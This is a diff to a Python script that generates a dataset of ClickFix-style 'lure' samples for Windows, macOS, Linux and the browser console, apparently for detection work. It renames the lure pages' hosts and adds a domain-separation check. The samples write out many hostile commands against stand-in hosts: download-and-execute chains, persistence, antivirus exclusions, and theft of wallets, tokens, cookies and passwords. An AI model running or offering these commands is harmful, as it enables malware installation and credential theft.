@@ -14,6 +14,7 @@ from __future__ import annotations
 import base64
 import gzip
 import json
+import re
 from pathlib import Path
 
 HERE = Path(__file__).resolve().parent
@@ -260,7 +261,7 @@ lure(
 lure(
     "ps-scriptblock-create",
     RUN,
-    "https://captcha-api.test/r/verify",
+    "https://captcha-api-page.example/r/verify",
     'powershell -nop -c "&([scriptblock]::Create((irm https://captcha-api.test/r)))"'
     + pad(25)
     + "# ✅ Human verification passed",
@@ -268,7 +269,7 @@ lure(
 lure(
     "ps-downloadfile-anydesk",
     RUN,
-    "https://support-center.help-desk.test/remote",
+    "https://support-center.help-desk-page.example/remote",
     'powershell (New-Object System.Net.WebClient).DownloadFile(\'https://files.help-desk.test/AnyDesk.exe\',"$env:TEMP\\ad.exe");Start-Process "$env:TEMP\\ad.exe"',
 )
 lure(
@@ -294,7 +295,7 @@ lure(
 lure(
     "ps-wmiclass-create",
     RUN,
-    "https://verify.captcha-guard.invalid/",
+    "https://verify.captcha-guard-page.example/",
     "powershell -c \"([wmiclass]'Win32_Process').Create('mshta https://hta.captcha-guard.invalid/v')\"",
 )
 lure(
@@ -306,13 +307,13 @@ lure(
 lure(
     "ps-defender-exclusion-download",
     RUN,
-    "https://driver-fix.audio-support.test/realtek",
+    "https://driver-fix.audio-support-page.example/realtek",
     'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://audio-support.test/drv/u.exe -OutFile $env:APPDATA\\u.exe; saps $env:APPDATA\\u.exe"',
 )
 lure(
     "ps-schtasks-persistence",
     RUN,
-    "https://checkpoint.human-test.test/",
+    "https://checkpoint.human-test-page.example/",
     "powershell -c \"schtasks /create /sc minute /mo 30 /tn 'EdgeUpdateCheck' /tr 'powershell -w h -c iex(irm https://tasks.human-test.test/p)' /f\"",
 )
 lure(
@@ -364,7 +365,7 @@ lure(
 lure(
     "mshta-url-tail",
     RUN,
-    "https://verify-gate.test/captcha",
+    "https://verify-gate-page.example/captcha",
     "mshta https://verify-gate.test/captcha/cf.hta # ✅ I am not a robot: reCAPTCHA ID 4412",
 )
 lure(
@@ -382,7 +383,7 @@ lure(
 lure(
     "mshta-vbscript-inline",
     RUN,
-    "https://robotcheck.cf-gate.invalid/",
+    "https://robotcheck.cf-gate-page.example/",
     'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c iwr https://cf-gate.invalid/a.ps1 -useb|iex"",0:close")',
 )
 lure(
@@ -394,7 +395,7 @@ lure(
 lure(
     "mshta-media-name",
     RUN,
-    "https://fonts-verify.test/missing-font",
+    "https://fonts-verify-page.example/missing-font",
     "mshta https://fonts-verify.test/fonts/Roboto-Regular.woff2",
 )
 lure(
@@ -408,7 +409,7 @@ lure(
 lure(
     "mshta-emspace-homoglyph-tail",
     RUN,
-    "https://human.verify-pass.test/",
+    "https://human.verify-pass-page.example/",
     "mshta https://verify-pass.test/h.hta"
     + pad(40, EMSP)
     + "# ✅ hυmаn vаlіdаtіοn cοmрlеtе — ID 8812",
@@ -434,7 +435,7 @@ lure(
 lure(
     "rundll32-advpack-inf",
     RUN,
-    "https://human-check.invalid/step",
+    "https://human-check-page.example/step",
     "rundll32 advpack.dll,LaunchINFSection \\\\human-check.invalid@SSL\\a\\x.inf,DefaultInstall_SingleUser,1,",
 )
 lure(
@@ -446,7 +447,7 @@ lure(
 lure(
     "regsvr32-scrobj",
     RUN,
-    "https://captcha.browser-verify.test/",
+    "https://captcha.browser-verify-page.example/",
     "regsvr32 /s /n /u /i:https://browser-verify.test/f.sct scrobj.dll",
 )
 lure(
@@ -458,7 +459,7 @@ lure(
 lure(
     "msiexec-url",
     RUN,
-    "https://device-verification.test/cf",
+    "https://device-verification-page.example/cf",
     "msiexec /q /i https://device-verification.test/CaptchaVerify.msi",
 )
 lure(
@@ -470,7 +471,7 @@ lure(
 lure(
     "certutil-urlcache",
     RUN,
-    "https://verify.secure-captcha.invalid/",
+    "https://verify.secure-captcha-page.example/",
     "certutil -urlcache -split -f https://secure-captcha.invalid/k.exe %TEMP%\\k.exe && %TEMP%\\k.exe",
 )
 lure(
@@ -482,7 +483,7 @@ lure(
 lure(
     "curl-wscript-vbs",
     RUN,
-    "https://verify-you.test/human",
+    "https://verify-you-page.example/human",
     "cmd /c curl -s -o %TEMP%\\z.vbs https://verify-you.test/z.vbs & wscript //B %TEMP%\\z.vbs",
 )
 lure(
@@ -494,7 +495,7 @@ lure(
 lure(
     "echo-vbs-xmlhttp",
     RUN,
-    "https://robot.check-page.test/",
+    "https://robot.check-page-page.example/",
     'cmd /c "echo Set x=CreateObject("MSXML2.XMLHTTP"):x.Open "GET","https://check-page.test/u",0:x.Send:Execute x.responseText>%TEMP%\\u.vbs&&wscript %TEMP%\\u.vbs"',
 )
 lure(
@@ -506,7 +507,7 @@ lure(
 lure(
     "forfiles-proxy",
     RUN,
-    "https://check.human-cf.test/",
+    "https://check.human-cf-page.example/",
     'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c mshta https://human-cf.test/f"',
 )
 lure(
@@ -518,7 +519,7 @@ lure(
 lure(
     "conhost-headless",
     RUN,
-    "https://cf.verify-browser.invalid/",
+    "https://cf.verify-browser-page.example/",
     'conhost.exe --headless powershell -w h -c "iex(irm https://verify-browser.invalid/c)"',
 )
 lure(
@@ -530,7 +531,7 @@ lure(
 lure(
     "wmic-process-create",
     RUN,
-    "https://human-verify.page.test/",
+    "https://human-verify.page-page.example/",
     'wmic process call create "powershell -w h -c iwr https://page.test/w -useb | iex"',
 )
 lure(
@@ -554,7 +555,7 @@ lure(
 lure(
     "curl-exe-start",
     RUN,
-    "https://captcha.secure-gate.test/",
+    "https://captcha.secure-gate-page.example/",
     'cmd /c curl -L -o %LOCALAPPDATA%\\t.exe https://secure-gate.test/t.exe && start "" %LOCALAPPDATA%\\t.exe',
 )
 lure(
@@ -566,7 +567,7 @@ lure(
 lure(
     "cmd-substring-call",
     RUN,
-    "https://human.gate-check.test/",
+    "https://human.gate-check-page.example/",
     'cmd /c "set z=apowershellx&& call %z:~1,10% -w h -c iwr https://gate-check.test/z -useb ^| iex"',
 )
 lure(
@@ -590,7 +591,7 @@ lure(
 lure(
     "finger-renamed-copy",
     RUN,
-    "https://browser-crash.recover-tab.test/",
+    "https://browser-crash.recover-tab-page.example/",
     "cmd /c copy %windir%\\system32\\finger.exe %TEMP%\\ct.exe & %TEMP%\\ct.exe x8@relay.recover-tab.test | cmd",
 )
 lure(
@@ -646,7 +647,7 @@ lure(
 lure(
     "url-exe-verify-tail",
     RUN,
-    "https://download-center.test/chrome",
+    "https://download-center-page.example/chrome",
     "https://download-center.test/Chrome_Update_131.exe  # ✓ Verified secure download ID 29481",
 )
 lure(
@@ -687,7 +688,7 @@ lure(
 lure(
     "filefix-ps-docx-path",
     EXP,
-    "https://hr-portal.policy-share.test/file/2026",
+    "https://hr-portal.policy-share-page.example/file/2026",
     'powershell -c "iwr https://policy-share.test/f.ps1 -useb|iex"'
     + pad(70)
     + "# C:\\Company\\HR\\Policies\\2026_Benefits_Update.docx",
@@ -719,7 +720,7 @@ lure(
 lure(
     "filefix-conhost",
     EXP,
-    "https://docs.team-drive.invalid/share",
+    "https://docs.team-drive-page.example/share",
     'conhost --headless cmd /c "curl -s https://team-drive.invalid/c | cmd"'
     + pad(64)
     + "# C:\\TeamDrive\\Projects\\Budget_2027.xlsx",
@@ -727,7 +728,7 @@ lure(
 lure(
     "filefix-stego-jpg",
     EXP,
-    "https://photo-share.album-view.test/a/77",
+    "https://photo-share.album-view-page.example/a/77",
     "powershell -w h -c \"$d=(iwr https://album-view.test/view.jpg -useb).Content;$s=[Text.Encoding]::UTF8.GetString($d);iex $s.Substring($s.IndexOf('#>')+2)\""
     + pad(55)
     + "# C:\\Photos\\Holiday\\IMG_2044.jpg",
@@ -743,7 +744,7 @@ lure(
 lure(
     "filefix-pushd-unc",
     EXP,
-    "https://portal.legal-docs.invalid/",
+    "https://portal.legal-docs-page.example/",
     "cmd /c pushd \\\\legal-docs.invalid@SSL\\cases && start view.cmd"
     + pad(66)
     + "# C:\\Legal\\Case_2026-114\\Summons.pdf",
@@ -751,7 +752,7 @@ lure(
 lure(
     "filefix-upload-dialog",
     EXP,
-    "https://upload.id-verify.test/kyc",
+    "https://upload.id-verify-page.example/kyc",
     'powershell -w h -nop -c "irm https://id-verify.test/k | iex"'
     + pad(90)
     + "# C:\\Users\\Documents\\Passport_Scan.jpg",
@@ -762,7 +763,7 @@ lure(
 lure(
     "terminal-irm-iex-comment",
     TERM,
-    "https://check.human-terminal.test/",
+    "https://check.human-terminal-page.example/",
     "irm https://human-terminal.test/t | iex  # Windows Terminal verification step 2 of 2",
 )
 lure(
@@ -794,7 +795,7 @@ lure(
 lure(
     "terminal-ps-wallet-steal",
     TERM,
-    "https://airdrop.claim-rewards.test/",
+    "https://airdrop.claim-rewards-page.example/",
     'Compress-Archive -Path "$env:APPDATA\\Exodus\\exodus.wallet" -DestinationPath $env:TEMP\\w.zip -Force; Invoke-RestMethod -Uri https://claim-rewards.test/u -Method Post -InFile $env:TEMP\\w.zip',
 )
 lure(
@@ -823,7 +824,7 @@ lure(
 lure(
     "macos-osascript-pipe",
     TERM,
-    "https://cf-verify.macos-check.test/",
+    "https://cf-verify.macos-check-page.example/",
     'curl -k -s --max-time 30 -H "User-Agent: Mozilla/5.0" "https://macos-check.test/debug/x.applescript?b=3447" | osascript',
     platform="macos",
 )
@@ -837,7 +838,7 @@ lure(
 lure(
     "macos-xattr-chain",
     TERM,
-    "https://get-verified.apple-id-check.test/",
+    "https://get-verified.apple-id-check-page.example/",
     "curl -o /tmp/SysHelper https://apple-id-check.test/SysHelper && xattr -c /tmp/SysHelper && chmod +x /tmp/SysHelper && /tmp/SysHelper",
     platform="macos",
 )
@@ -851,7 +852,7 @@ lure(
 lure(
     "macos-dscl-password",
     TERM,
-    "https://security-update.mac-support.test/",
+    "https://security-update.mac-support-page.example/",
     'read -s -p \'System password: \' p; dscl . -authonly "$USER" "$p" && echo "$p" | sudo -S sh -c "$(curl -fsSL https://mac-support.test/s.sh)"',
     platform="macos",
 )
@@ -865,7 +866,7 @@ lure(
 lure(
     "macos-launchagent",
     TERM,
-    "https://verify.human-mac.invalid/",
+    "https://verify.human-mac-page.example/",
     "curl -s https://human-mac.invalid/com.apple.sysupdate.plist -o ~/Library/LaunchAgents/com.apple.sysupdate.plist && launchctl load ~/Library/LaunchAgents/com.apple.sysupdate.plist",
     platform="macos",
 )
@@ -879,7 +880,7 @@ lure(
 lure(
     "macos-printf-hex-name",
     TERM,
-    "https://cf-human.mac-verify.test/",
+    "https://cf-human.mac-verify-page.example/",
     "$(printf '\\x63\\x75\\x72\\x6c') -s https://mac-verify.test/b | $(printf '\\x62\\x61\\x73\\x68')",
     platform="macos",
 )
@@ -909,7 +910,7 @@ lure(
 lure(
     "macos-nohup-disown-clear",
     TERM,
-    "https://mac-verify.secure-check.invalid/",
+    "https://mac-verify.secure-check-page.example/",
     "nohup bash -c 'curl -s https://secure-check.invalid/b | bash' >/dev/null 2>&1 & disown; clear",
     platform="macos",
 )
@@ -924,7 +925,7 @@ lure(
 lure(
     "macos-spctl-disable-pkg",
     TERM,
-    "https://codec-pack.player-update.test/mac",
+    "https://codec-pack.player-update-page.example/mac",
     "sudo spctl --master-disable && curl -sL https://player-update.test/codec.pkg -o /tmp/a.pkg && sudo installer -pkg /tmp/a.pkg -target /",
     platform="macos",
 )
@@ -954,7 +955,7 @@ lure(
 lure(
     "macos-jxa-eval",
     TERM,
-    "https://verify.mac-human.test/",
+    "https://verify.mac-human-page.example/",
     "osascript -l JavaScript -e 'eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString(\"https://mac-human.test/j\")),4)))'",
     platform="macos",
 )
@@ -971,7 +972,7 @@ lure(
 lure(
     "linux-wget-sh-fix-comment",
     TERM,
-    "https://gpu-fix.driver-help.test/nvidia",
+    "https://gpu-fix.driver-help-page.example/nvidia",
     "wget -q -O- https://driver-help.test/fix.sh | sh  # NVIDIA driver fix for black screen",
     platform="linux",
 )
@@ -985,7 +986,7 @@ lure(
 lure(
     "linux-crontab-persistence",
     TERM,
-    "https://verify.linux-check.invalid/",
+    "https://verify.linux-check-page.example/",
     '(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://linux-check.invalid/c | sh") | crontab -',
     platform="linux",
 )
@@ -1000,7 +1001,7 @@ lure(
 lure(
     "linux-ifs-evasion",
     TERM,
-    "https://captcha.term-verify.test/",
+    "https://captcha.term-verify-page.example/",
     "curl${IFS}-s${IFS}https://term-verify.test/i|sh",
     platform="linux",
 )
@@ -1015,7 +1016,7 @@ lure(
 lure(
     "linux-systemd-user-service",
     TERM,
-    "https://update.linux-agent.test/",
+    "https://update.linux-agent-page.example/",
     "mkdir -p ~/.config/systemd/user && curl -s https://linux-agent.test/a.service -o ~/.config/systemd/user/a.service && systemctl --user enable --now a.service",
     platform="linux",
 )
@@ -1043,7 +1044,7 @@ lure(
 lure(
     "linux-download-chmod-run-tmp",
     TERM,
-    "https://steam-fix.proton-help.test/",
+    "https://steam-fix.proton-help-page.example/",
     "curl -s https://proton-help.test/admin/assets/js/map.sh -o /tmp/map.sh && chmod +x /tmp/map.sh && /tmp/map.sh",
     platform="linux",
 )
@@ -1067,7 +1068,7 @@ lure(
 lure(
     "console-webpack-token-post",
     CON,
-    "https://discord-nitro.gift-claim.test/",
+    "https://discord-nitro.gift-claim-page.example/",
     "let t;webpackChunkdiscord_app.push([[Symbol()],{},r=>{for(const k in r.c){const m=r.c[k].exports;if(m&&m.default&&m.default.getToken){t=m.default.getToken()}}}]);fetch('https://gift-claim.test/n',{method:'POST',body:t})",
     platform="any",
 )
@@ -1081,7 +1082,7 @@ lure(
 lure(
     "console-script-injection",
     CON,
-    "https://robux-generator.free-items.test/",
+    "https://robux-generator.free-items-page.example/",
     "var s=document.createElement('script');s.src='https://cdn.free-items.test/gen.js';document.body.appendChild(s)",
     platform="any",
 )
@@ -1095,7 +1096,7 @@ lure(
 lure(
     "console-fetch-then-eval",
     CON,
-    "https://verify-account.social-help.test/",
+    "https://verify-account.social-help-page.example/",
     "fetch('https://social-help.test/p.js').then(r=>r.text()).then(eval)",
     platform="any",
 )
@@ -1139,7 +1140,7 @@ lure(
 lure(
     "console-dynamic-import",
     CON,
-    "https://case-opening.skins-free.test/",
+    "https://case-opening.skins-free-page.example/",
     "import('https://cdn.skins-free.test/m.js')",
     platform="any",
 )
@@ -1153,7 +1154,7 @@ lure(
 lure(
     "console-image-beacon-cookie",
     CON,
-    "https://unlock.premium-free.invalid/",
+    "https://unlock.premium-free-page.example/",
     "new Image().src='https://premium-free.invalid/c?d='+encodeURIComponent(document.cookie+'|'+JSON.stringify(localStorage))",
     platform="any",
 )
@@ -1174,7 +1175,7 @@ lure(
 lure(
     "console-session-hijack-xhr",
     CON,
-    "https://support.ads-manager-help.test/appeal",
+    "https://support.ads-manager-help-page.example/appeal",
     "var x=new XMLHttpRequest();x.open('POST','https://ads-manager-help.test/s',true);x.send(document.cookie+'\\n'+navigator.userAgent)",
     platform="any",
 )
@@ -1345,14 +1346,14 @@ lure(
 lure(
     "instructions-mac-terminal",
     UNK,
-    "https://verify.mac-access.test/",
+    "https://verify.mac-access-page.example/",
     "To continue, verify you are human:\n1. Press Command + Space, type Terminal and press Return\n2. Paste the line below and press Return\n\ncurl -fsSL https://mac-access.test/v | bash",
     platform="macos",
 )
 lure(
     "crashfix-recovery-command",
     RUN,
-    "https://chrome-recovery.tab-crash.test/",
+    "https://chrome-recovery.tab-crash-page.example/",
     'cmd /c start /min powershell -w h -c "iex(irm https://tab-crash.test/r)" & echo Chrome recovery completed. Restart the browser.',
 )
 lure(
@@ -1366,13 +1367,13 @@ lure(
 lure(
     "meet-mic-fix",
     RUN,
-    "https://meet.google-join.test/xkc-pqrs-tuv",
+    "https://meet.google-join-page.example/xkc-pqrs-tuv",
     'powershell -w h -c "irm https://google-join.test/mic | iex"  # Fix microphone access for Google Meet',
 )
 lure(
     "teams-audio-fix-terminal",
     TERM,
-    "https://teams-audio.fix-device.invalid/",
+    "https://teams-audio.fix-device-page.example/",
     "Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c iex(irm https://fix-device.invalid/a)'  # Teams audio device repair",
 )
 
@@ -1389,14 +1390,14 @@ lure(
 lure(
     "macos-dmg-silent-mount",
     TERM,
-    "https://captcha-mac.verify-step.test/",
+    "https://captcha-mac.verify-step-page.example/",
     "curl -fsSL -o /tmp/v.dmg https://verify-step.test/v.dmg && hdiutil attach -nobrowse -quiet /tmp/v.dmg && /Volumes/Verify/Verify.app/Contents/MacOS/Verify",
     platform="macos",
 )
 lure(
     "mshta-fake-msixbundle",
     RUN,
-    "https://claude-desktop.ai-download.test/windows",
+    "https://claude-desktop.ai-download-page.example/windows",
     "mshta https://ai-download.test/Claude-Setup.msixbundle",
 )
 lure(
@@ -1408,7 +1409,7 @@ lure(
 lure(
     "portable-python-loader",
     RUN,
-    "https://verify.file-convert.test/pdf",
+    "https://verify.file-convert-page.example/pdf",
     'cmd /c "curl -sLo %TEMP%\\p.zip https://file-convert.test/python-3.12.7-embed-amd64.zip & tar -xf %TEMP%\\p.zip -C %TEMP%\\p & %TEMP%\\p\\pythonw.exe -c "import urllib.request as r;exec(r.urlopen(\'https://file-convert.test/l\').read())""',
 )
 lure(
@@ -2672,7 +2673,22 @@ def _numbered(prefix: str, keys: list[str]) -> list[str]:
     return ids
 
 
+def _domain(host: str) -> str:
+    """The registrable domain of a reserved name (their suffixes are one label)."""
+    return ".".join(host.lower().split(":")[0].strip(".").split(".")[-2:])
+
+
+def _check_unrelated(source: str, text: str) -> None:
+    """A lure's page shares nothing with the hosts its text fetches from (the brief)."""
+    page = _domain(re.match(r"https?://([^/]+)", source).group(1))  # type: ignore[union-attr]
+    hosts = re.findall(r"(?:https?:|\\\\|@)/?/?([A-Za-z0-9.-]+\.(?:test|invalid|example))", text)
+    if page in {_domain(h) for h in hosts}:
+        raise SystemExit(f"lure page {source} shares its domain with a host in {text[:80]!r}")
+
+
 def lure_rows() -> list[dict[str, str]]:
+    for _, _, source, text, _, _ in LURES:
+        _check_unrelated(source, text)
     ids = _numbered("blind3", [t for t, *_ in LURES])
     return [
         {
